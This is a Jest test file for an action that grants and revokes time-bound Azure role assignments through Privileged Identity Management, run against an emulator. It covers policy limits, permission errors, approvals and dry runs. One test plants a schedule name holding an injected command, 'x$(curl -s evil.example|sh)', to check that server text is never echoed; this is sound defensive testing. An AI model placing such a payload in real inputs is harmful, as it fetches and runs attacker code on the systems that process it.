// Time-bound Azure access (`duration`), end to end through the bundled main and post steps against
// the emulator's PIM: AdminAssign and AdminRemove schedule requests that Azure itself ends. The
// post steps of revoke-on-exit are in azure-time-bound-revoke.test.ts and
// azure-time-bound-others.test.ts (time-bound-fixture.ts says why three files).
import { describe, expect, it } from '@jest/globals';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  activeFor,
  azure,
  grant,
  HOUR,
  newPrincipal,
  READER,
  resultsOf,
  subscription,
  useTimeBound,
} from './time-bound-fixture.js';

const { emulator, main, post, calls } = useTimeBound();

describe('assign with duration: a PIM schedule request that Azure ends itself', () => {
  it('makes the assignment through one AdminAssign, and reports its real end time', async () => {
    const p = newPrincipal();
    const before = Date.now();
    const step = await main(grant(p));
    expect(step.exitCode).toBe(0);
    expect(step.outputs).toMatchObject({ status: 'SUCCEEDED', changed: 'true' });
    const expiresAt = Date.parse(step.outputs['expires-at']!);
    expect(expiresAt).toBeGreaterThanOrEqual(before + 2 * HOUR - 1_000);
    expect(expiresAt).toBeLessThanOrEqual(Date.now() + 2 * HOUR + 1_000);
    // The end time is the instance's, as Azure keeps it.
    const [instance] = activeFor(p);
    expect(new Date(instance!.properties.endDateTime!).toISOString()).toBe(step.outputs['expires-at']);
    expect(resultsOf(step)[0]).toMatchObject({ status: 'SUCCEEDED', expiresAt: step.outputs['expires-at'] });
    expect(step.outputs['assignment-id']).toMatch(
      /\/providers\/Microsoft\.Authorization\/roleAssignmentSchedules\//i,
    );
    expect(step.summary).toContain('<th>Expires</th>');

    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    expect(calls('RoleAssignments_Create')).toHaveLength(0);
    const [request] = azure().pim().requests;
    expect(request!.properties).toMatchObject({
      requestType: 'AdminAssign',
      principalId: p,
      scheduleInfo: { expiration: { type: 'AfterDuration', duration: 'PT2H' } },
    });
    // The justification is the description the action writes on every assignment.
    expect(request!.properties.justification).toMatch(/^Granted by cloud-access/);
  });

  it('retries SubjectNotFound while a new principal replicates, as terraform does, then succeeds', async () => {
    // It replicates once ARM has refused it once: the order, however slow the machine.
    azure().config.principalReplicationDelayMs = 600_000;
    const p = azure().addPrincipal({ type: 'ServicePrincipal' });
    const running = main(grant(p, { 'principal-type': 'ServicePrincipal' }));
    let settled = false;
    void running.finally(() => (settled = true));
    while (!settled && !emulator().requests.some((r) => r.errorCode === 'SubjectNotFound')) await sleep(50);
    azure().config.principalReplicationDelayMs = 0;
    const step = await running;
    expect(step.exitCode).toBe(0);
    expect(step.outputs.status).toBe('SUCCEEDED');
    expect(emulator().requests.some((r) => r.errorCode === 'SubjectNotFound')).toBe(true);
  });

  it('leaves an active assignment alone (changed=false), saying until when it lasts and that the duration was not applied', async () => {
    const p = newPrincipal();
    const endMs = Date.now() + 6 * HOUR;
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs,
    });
    const step = await main(grant(p, { 'revoke-on-exit': 'true' }));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.changed).toBe('false');
    expect(step.outputs['expires-at']).toBe(new Date(endMs).toISOString());
    expect(step.stdout).toContain(
      `until ${new Date(endMs).toISOString()}; the requested duration PT2H was not applied`,
    );
    expect(step.stdout).toContain('revoke-on-exit leaves it in place');
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(0);

    // Its post step has nothing of its own to revoke.
    const revoked = await post(grant(p, { 'revoke-on-exit': 'true' }), step.state);
    expect(revoked.exitCode).toBe(0);
    expect(activeFor(p)).toHaveLength(1);
  });

  it("reports an existing assignment's schedule ID built from the scope and its GUID, never a server's text as it is", async () => {
    const p = newPrincipal();
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs: Date.now() + HOUR,
      name: 'x$(curl -s evil.example|sh)',
    });
    const step = await main(grant(p));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.changed).toBe('false');
    expect(step.outputs['assignment-id']).toBe('');
    expect(step.everything).not.toContain('curl');
  });

  it('says so of a permanent assignment too', async () => {
    const p = newPrincipal();
    azure().addRoleAssignment({ scope: subscription(), roleDefinitionId: READER, principalId: p });
    const step = await main(grant(p));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.changed).toBe('false');
    expect(step.stdout).toContain('permanently (no end time); the requested duration PT2H was not applied');
  });
});

describe("the role's PIM policy is read before writing", () => {
  it('refuses a duration over the maximum without a write, naming `duration`, the maximum and where it is changed', async () => {
    azure().setPimPolicy({ isExpirationRequired: true, maximumDuration: 'PT1H' }, 'Reader');
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs.status).toBe('FAILED');
    expect(step.outputs['failure-reason']).toMatch(/`duration` PT2H \(2 h\) is longer than the PT1H \(1 h\)/);
    expect(step.outputs['failure-reason']).toMatch(/Privileged Identity Management/);
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(0);
  });

  it('writes anyway when the policy cannot be read, and explains the refusal the same way', async () => {
    azure().setPimPolicy({ isExpirationRequired: true, maximumDuration: 'PT1H' }, 'Reader');
    azure().faults.pimDenyPolicyRead = true;
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    expect(step.outputs['failure-reason']).toMatch(/PIM policy .* refuses this time-bound assignment/);
    expect(step.outputs['failure-reason']).toMatch(
      /`duration` PT2H \(2 h\) is outside what its expiration rule allows/,
    );
  });

  it('names an MFA rule a workflow cannot meet, with the setting that turns it off', async () => {
    azure().setPimPolicy({ enabledRules: ['MultiFactorAuthentication'] }, 'Reader');
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs['failure-reason']).toMatch(
      /Require Azure Multi-Factor Authentication on active assignment/,
    );
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(0);
  });

  it('explains a tenant without an Entra ID P2 licence once, without retrying', async () => {
    azure().config.pimLicense = false;
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs['failure-reason']).toMatch(/Entra ID P2 or Entra ID Governance licence/);
    expect(step.outputs['failure-reason']).toMatch(/leave `duration` empty/);
    // The first PIM read is refused, and nothing is retried or written after it.
    expect(emulator().requests.filter((r) => r.errorCode === 'AadPremiumLicenseRequired')).toHaveLength(1);
    expect(emulator().requests.filter((r) => r.write)).toHaveLength(0);
  });
});

describe('permissions', () => {
  it.each([
    ['Microsoft.Authorization/roleAssignments/write'],
    ['Microsoft.Authorization/roleAssignmentScheduleRequests/write'],
  ])(
    'names roleAssignmentScheduleRequests/write and roleAssignments/write when %s is denied, once, without retrying',
    async (denied) => {
      azure().faults.authorizationFailed = [denied];
      const step = await main(grant(newPrincipal()));
      expect(step.exitCode).toBe(1);
      expect(step.outputs['failure-reason']).toContain(
        'RoleAssignmentScheduleRequests_Create was denied at scope',
      );
      expect(step.outputs['failure-reason']).toContain(
        'lacks `Microsoft.Authorization/roleAssignmentScheduleRequests/write` or `Microsoft.Authorization/roleAssignments/write`',
      );
      expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
    },
  );

  it.each([
    [
      'RoleAssignmentScheduleInstances_ListForScope',
      'Microsoft.Authorization/roleAssignmentScheduleInstances/read',
    ],
  ])('a denied %s names %s, not roleAssignments/write', async (operation, permission) => {
    azure().faults.authorizationFailed = [permission];
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    const reason = step.outputs['failure-reason']!;
    expect(reason).toContain(`${operation} was denied`);
    expect(reason).toContain(`lacks \`${permission}\``);
    expect(reason).not.toContain('roleAssignments/write');
  });

  it('a post step that may not read schedules names roleAssignmentSchedules/read', async () => {
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    expect(step.exitCode).toBe(0);
    azure().faults.authorizationFailed = ['Microsoft.Authorization/roleAssignmentSchedules/read'];
    const revoked = await post(inputs, step.state);
    const said = [revoked.stdout, ...revoked.warnings].join('\n');
    expect(said).toContain('RoleAssignmentSchedules_ListForScope was denied');
    expect(said).toContain('lacks `Microsoft.Authorization/roleAssignmentSchedules/read`');
    expect(said).not.toContain('lacks `Microsoft.Authorization/roleAssignments/write`');
    expect(calls('RoleAssignmentScheduleRequests_Create')).toHaveLength(1);
  });

  it('writes anyway when the policy may not be read, and the debug log names roleManagementPolicyAssignments/read', async () => {
    azure().faults.authorizationFailed = ['Microsoft.Authorization/roleManagementPolicyAssignments/read'];
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(0);
    expect(step.outputs.status).toBe('SUCCEEDED');
    expect(calls('RoleManagementPolicyAssignments_ListForScope')).toHaveLength(1);
    expect(step.stdout).toContain('`Microsoft.Authorization/roleManagementPolicyAssignments/read`');
  });
});

describe('requests that do not end Provisioned', () => {
  it('fails with the status Azure ended the request with', async () => {
    azure().faults.pimRequestOutcome = 'Denied';
    const step = await main(grant(newPrincipal()));
    expect(step.exitCode).toBe(1);
    expect(step.outputs['failure-reason']).toMatch(
      /PIM request [0-9a-f-]{36} ended Denied: an approver denied it/,
    );
  });

  it('ends IN_PROGRESS without failing when the policy requires approval, and its post step cancels the request', async () => {
    azure().setPimPolicy({ approvalRequired: true });
    const p = newPrincipal();
    const inputs = grant(p, { 'revoke-on-exit': 'true' });
    const step = await main(inputs);
    expect(step.exitCode).toBe(0);
    expect(step.outputs.status).toBe('IN_PROGRESS');
    expect(step.warnings.join('\n')).toMatch(/requires approval/);

    const revoked = await post(inputs, step.state);
    expect(revoked.exitCode).toBe(0);
    expect(calls('RoleAssignmentScheduleRequests_Cancel')).toHaveLength(1);
    expect(
      azure()
        .pim()
        .requests.map((r) => r.properties.status),
    ).toEqual(['Canceled']);
    expect(activeFor(p)).toHaveLength(0);
  });
});

describe('operation: revoke with duration', () => {
  it('ends a time-bound assignment with an AdminRemove, and finds an absent one already absent', async () => {
    azure().config.pimMinimumActiveMs = 0;
    const p = newPrincipal();
    azure().addRoleAssignmentSchedule({
      scope: subscription(),
      roleDefinitionId: READER,
      principalId: p,
      endMs: Date.now() + HOUR,
    });
    const revoked = await main(grant(p, { operation: 'revoke' }));
    expect(revoked.exitCode).toBe(0);
    expect(revoked.outputs.changed).toBe('true');
    expect(activeFor(p)).toHaveLength(0);

    const again = await main(grant(p, { operation: 'revoke' }));
    expect(again.exitCode).toBe(0);
    expect(again.outputs.changed).toBe('false');
  });
});

describe('dry run with duration', () => {
  it('shows the end time it would set and the policy maximum, and writes nothing', async () => {
    azure().setPimPolicy({ isExpirationRequired: true, maximumDuration: 'P1D' }, 'Reader');
    const step = await main(grant(newPrincipal(), { 'dry-run': 'true' }));
    expect(step.exitCode).toBe(0);
    expect(step.stdout).toMatch(/would be active for PT2H, until about \d{4}-\d\d-\d\dT/);
    expect(step.stdout).toContain("the role's PIM policy allows at most P1D");
    expect(step.outputs['expires-at']).not.toBe('');
    expect(emulator().requests.filter((r) => r.write)).toHaveLength(0);
  });
});
